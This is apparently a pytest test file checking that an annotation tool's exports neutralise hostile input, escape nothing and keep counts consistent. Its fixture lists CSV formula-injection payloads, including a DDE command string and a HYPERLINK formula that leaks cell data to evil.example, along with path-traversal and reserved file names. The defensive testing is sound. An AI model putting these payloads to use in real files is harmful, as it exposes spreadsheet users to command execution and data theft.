"""Exports that do no harm: CSV cells cannot inject formulas, export paths cannot escape the
chosen folder, and export counts equal the project's counts."""
from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from annotation.model import ClaimRecord, NewDocument, SpanRecord
from storage.export import export
from storage.ingest import store_documents
from storage.project import Project
from storage.review import Review
from tests.reliability.conftest import folder_state

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
EVIL = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "\uff1d1+1", "\uff0bcmd"]
EVIL_NAMES = ["../../escape", "/etc/passwd", "..", ".", "a/../../b", "C:\\Windows\\system.ini",
              "\\\\server\\share\\x", "CON", "con.txt", "NUL", "lpt1", "name\x00with-nul",
              "x" * 400, "Doc", "doc", "caf\u00e9", "cafe\u0301", "=evil", "", None, "~/.bashrc",
              " spaced ", "new\nline", "😀", ".hidden"]


@pytest.fixture(scope="module")
def evil_project(tmp_path_factory) -> Path:
    """Documents whose names, titles, meta, text and sources are hostile; some reviewed."""
    path = tmp_path_factory.mktemp("evil") / "evil.credence"
    docs = []
    for i, name in enumerate(EVIL_NAMES):
        formula = EVIL[i % len(EVIL)]
        source = EVIL[(i + 3) % len(EVIL)]
        text = f"{formula} {source} said that {formula} was true. Plain words {i}."
        s0 = len(formula) + 1
        cue0 = s0 + len(source) + 1
        c0 = cue0 + len("said that ")
        spans = [SpanRecord(0, len(formula), "ORG", key="x"),
                 SpanRecord(s0, s0 + len(source), "Source", key="S"),
                 SpanRecord(cue0, cue0 + 4, "Cue", key="C"),
                 SpanRecord(c0, c0 + len(formula) + 9, "Content", key="T")]
        docs.append(NewDocument(raw_text=text, name=name, title=EVIL[(i + 1) % len(EVIL)],
                                source=EVIL[(i + 2) % len(EVIL)], meta={"=key": formula, "n": i},
                                spans=spans, claims=[ClaimRecord(content="T", cue="C", source="S")]))
    with Project(path) as p:
        store_documents(p, docs)
        review = Review(p)
        for doc_id in p.document_ids():
            spans = p.spans(doc_id)
            claims = p.claims(doc_id)
            if doc_id % 3 == 0:
                review.reject_claim(claims[0].id)
            else:
                review.accept_claim(claims[0].id)
                review.grade_claim(claims[0].id, 1 + doc_id % 6)
                review.source_for_name(EVIL[doc_id % len(EVIL)])
            if doc_id % 2 == 0:
                review.accept([spans[0].id])
                review.set_document_status(doc_id, "done", resolve="reject")
            elif doc_id % 5 == 0:
                review.reject([spans[0].id])
        for src in p.sources():
            Review(p).grade_source(src.id, "B")
    return path


def _cells(path: Path):
    with open(path, newline="", encoding="utf-8-sig") as f:
        yield from csv.reader(f)


@pytest.mark.parametrize("fmt", ["docs-csv", "claims-csv"])
@pytest.mark.parametrize("everything", [True, False])
def test_csv_cells_cannot_start_a_formula(evil_project, tmp_path, fmt, everything):
    out = tmp_path / f"{fmt}.csv"
    with Project(evil_project, readonly=True) as p:
        export(p, fmt, out, everything=everything)
    rows = list(_cells(out))
    assert len(rows) > 1
    seen_evil = 0
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), f"{fmt}: cell {cell!r} would run as a formula"
            if cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS):
                seen_evil += 1
    assert seen_evil > 0  # the hostile values really went through the writer


def test_brat_export_files_stay_in_the_chosen_folder(evil_project, tmp_path):
    root = tmp_path / "root"
    out = root / "export" / "brat"
    out.parent.mkdir(parents=True)
    sentinel = root / "sentinel.txt"
    sentinel.write_text("x")
    before = folder_state(tmp_path)
    with Project(evil_project, readonly=True) as p:
        summary = export(p, "brat", out, everything=True)
        n_docs = p.document_count()
    after = folder_state(tmp_path)
    new = sorted(set(after) - set(before))
    assert all(k.startswith("root/export/brat/") for k in new), [k for k in new if "brat/" not in k]
    assert {k: v for k, v in after.items() if k in before} == before  # nothing else touched
    files = [p for p in out.rglob("*") if p.is_file()]
    assert all(f.parent == out for f in files), "a document name made a sub-folder"
    texts = [f for f in files if f.suffix == ".txt"]
    anns = [f for f in files if f.suffix == ".ann"]
    assert len(texts) == len(anns) == n_docs == summary.documents  # unique names, none lost
    for f in texts:
        assert not f.name.startswith((".", "-", "~")) and "\x00" not in f.name
        assert f.stem.split(".")[0].lower() not in {"con", "nul", "lpt1", "prn", "aux"}
        assert len(f.name.encode()) <= 255


@pytest.mark.parametrize("fmt", ["prodigy", "doccano", "labelstudio", "conll", "spacy",
                                 "claims-jsonl", "claims-csv", "docs-csv"])
def test_single_file_exports_write_only_their_file(evil_project, tmp_path, fmt):
    out = tmp_path / "out" / f"export.{fmt}"
    out.parent.mkdir()
    before = folder_state(tmp_path)
    with Project(evil_project, readonly=True) as p:
        export(p, fmt, out)
    after = folder_state(tmp_path)
    assert sorted(set(after) - set(before)) == [f"out/export.{fmt}"]


def _sql_counts(p: Project, everything: bool, any_status: bool = False) -> tuple[int, int, int]:
    """Documents, spans and claims an export holds, counted in SQL: by default the documents
    marked done (reports: every document), accepted spans and claims; with everything, also
    every document and every span and claim not rejected."""
    docs = "(SELECT id FROM documents)" if everything or any_status else \
        "(SELECT id FROM documents WHERE status = 'done')"
    span_ok = "status != 'rejected'" if everything else "status = 'accepted'"
    q = p.conn.execute
    n_docs = q(f"SELECT count(*) FROM documents WHERE id IN {docs}").fetchone()[0]
    n_spans = q(f"SELECT count(*) FROM spans WHERE {span_ok} AND document_id IN {docs}").fetchone()[0]
    n_claims = q(f"SELECT count(*) FROM claims WHERE {span_ok} AND document_id IN {docs}").fetchone()[0]
    return n_docs, n_spans, n_claims


@pytest.mark.parametrize("everything", [True, False])
def test_export_counts_equal_the_projects_counts(evil_project, tmp_path, everything):
    with Project(evil_project, readonly=True) as p:
        n_docs, n_spans, n_claims = _sql_counts(p, everything)
        all_docs, report_spans, report_claims = _sql_counts(p, everything, any_status=True)
        counts = p.counts()
        if everything:
            assert n_docs == counts.documents
            assert n_spans == sum(n for by in counts.spans_by_label_status.values()
                                  for status, n in by.items() if status != "rejected")
            assert n_claims == counts.claims
        results = {}
        for fmt in ("prodigy", "doccano", "labelstudio", "brat", "spacy", "conll", "docs-csv",
                    "claims-csv", "claims-jsonl"):
            out = tmp_path / f"{fmt}-{everything}"
            results[fmt] = (export(p, fmt, out, everything=everything), out)
    assert n_docs > 0 and n_spans > 0 and n_claims > 0
    for fmt in ("prodigy", "doccano", "labelstudio", "brat", "spacy", "conll"):
        assert results[fmt][0].documents == n_docs, fmt
    for fmt in ("doccano", "labelstudio", "brat"):
        assert results[fmt][0].spans == n_spans, fmt
    assert (results["docs-csv"][0].documents, results["docs-csv"][0].spans) == (all_docs, report_spans)
    for fmt in ("claims-csv", "claims-jsonl"):
        assert results[fmt][0].claims == report_claims, fmt
    # Read back what was written: the files say the same.
    doccano = [json.loads(x) for x in results["doccano"][1].read_text().splitlines()]
    assert len(doccano) == n_docs and sum(len(r["label"]) for r in doccano) == n_spans
    prodigy = [json.loads(x) for x in results["prodigy"][1].read_text().splitlines()]
    assert len(prodigy) == n_docs
    tasks = json.loads(results["labelstudio"][1].read_text())
    assert len(tasks) == n_docs
    assert sum(1 for t in tasks for a in t.get("annotations", []) + t.get("predictions", [])
               for r in a["result"] if r["type"] == "labels") == n_spans
    assert len(list(_cells(results["docs-csv"][1]))) - 1 == all_docs
    assert len(list(_cells(results["claims-csv"][1]))) - 1 == report_claims
    assert len(results["claims-jsonl"][1].read_text().splitlines()) == report_claims
    brat = results["brat"][1]
    assert len(list(brat.glob("*.txt"))) == n_docs
    t_lines = 0
    for f in brat.glob("*.ann"):
        lines = f.read_text(encoding="utf-8").split("\n")
        # An E line's Attribution trigger (PolNeAR style) is one T line per claim, not a span.
        triggers = {ln.split("\t")[1].split()[0].split(":")[1] for ln in lines if ln.startswith("E")}
        t_lines += sum(1 for ln in lines if ln.startswith("T") and ln.split("\t")[0] not in triggers)
    assert t_lines == n_spans
